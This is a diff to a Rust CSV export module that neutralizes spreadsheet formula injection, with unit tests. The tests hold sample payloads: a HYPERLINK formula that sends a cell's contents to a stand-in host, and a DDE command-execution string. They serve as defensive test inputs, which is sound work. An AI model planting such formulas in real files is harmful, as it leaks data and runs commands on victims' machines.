@@ -1,5 +1,13 @@
 //! CSV export (RFC 4180): every table and KPI the API lists can be downloaded as CSV.
 //! Rows are serialized with serde and their fields written in a fixed column order.
+//!
+//! No cell is ever a live spreadsheet formula. Staff type the free text that reaches
+//! these files (notes, answers, item names), and a manager opens them in Excel or
+//! LibreOffice: a text cell that starts with `=`, `+`, `-`, `@`, tab or carriage return
+//! is written with a leading `'` (OWASP's advice for CSV injection), which spreadsheets
+//! show as text. Numbers stay numbers; the master-data import reads the `'` back off.
+
+use std::borrow::Cow;
 
 use serde::{Serialize, Serializer};
 use serde_json::Value;
@@ -9,12 +17,44 @@ pub trait CsvColumns {
     const COLUMNS: &'static [&'static str];
 }
 
-/// One CSV field, quoted when it holds a comma, a quote or a line break.
+/// What a spreadsheet reads as the start of a formula.
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// One CSV text field: neutralized if a spreadsheet would run it as a formula, then
+/// quoted when it holds a comma, a quote, a line break or a leading `'`.
 pub fn escape(field: &str) -> String {
-    if field.contains([',', '"', '\n', '\r']) {
+    let field = neutralize(field);
+    if field.contains([',', '"', '\n', '\r']) || field.starts_with('\'') {
         format!("\"{}\"", field.replace('"', "\"\""))
     } else {
-        field.to_owned()
+        field.into_owned()
+    }
+}
+
+/// `'` before a text that starts like a formula; plain numbers (`-3`, `+2.5`) are left
+/// alone, since spreadsheets read them as numbers and never run them.
+fn neutralize(field: &str) -> Cow<'_, str> {
+    if field.starts_with(FORMULA_START) && !is_plain_number(field) {
+        Cow::Owned(format!("'{field}"))
+    } else {
+        Cow::Borrowed(field)
+    }
+}
+
+fn is_plain_number(text: &str) -> bool {
+    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
+    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, ""));
+    !(whole.is_empty() && fraction.is_empty())
+        && whole.bytes().all(|b| b.is_ascii_digit())
+        && fraction.bytes().all(|b| b.is_ascii_digit())
+}
+
+/// A cell read from a CSV file as its author meant it: the `'` that [`escape`] put
+/// before a formula-like text is taken off again, so an export imports back unchanged.
+pub fn restore(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_START) => rest,
+        _ => cell,
     }
 }
 
@@ -108,6 +148,45 @@ mod tests {
         assert_eq!(escape("say \"hi\""), "\"say \"\"hi\"\"\"");
         assert_eq!(escape("two\nlines"), "\"two\nlines\"");
         assert_eq!(escape(""), "");
+    }
+
+    #[test]
+    fn formulas_are_written_as_text_and_numbers_as_numbers() {
+        assert_eq!(
+            escape("=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")"),
+            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"ok\"\")\""
+        );
+        assert_eq!(escape("=cmd|' /C calc'!A0"), "\"'=cmd|' /C calc'!A0\"");
+        assert_eq!(escape("+1+1"), "\"'+1+1\"");
+        assert_eq!(escape("-2 damaged"), "\"'-2 damaged\"");
+        assert_eq!(escape("@SUM(A1)"), "\"'@SUM(A1)\"");
+        assert_eq!(escape("\tx"), "\"'\tx\"");
+        assert_eq!(escape("\rx"), "\"'\rx\"");
+        for number in ["-3", "+2.5", "-.5", "12", "0.75"] {
+            assert_eq!(escape(number), number, "{number} stays a number");
+        }
+        assert_eq!(escape("-"), "\"'-\"");
+        assert_eq!(escape("a=b"), "a=b", "only the first character counts");
+        assert_eq!(escape("'quoted"), "\"'quoted\"");
+    }
+
+    #[test]
+    fn a_neutralized_cell_reads_back_as_written() {
+        for text in [
+            "=HYPERLINK(\"x\")",
+            "-2 damaged",
+            "@x",
+            "plain",
+            "'quoted",
+            "-3",
+        ] {
+            let written = escape(text);
+            let cell = written
+                .strip_prefix('"')
+                .and_then(|w| w.strip_suffix('"'))
+                .map_or(written.clone(), |w| w.replace("\"\"", "\""));
+            assert_eq!(restore(&cell), text);
+        }
     }
 
     #[test]
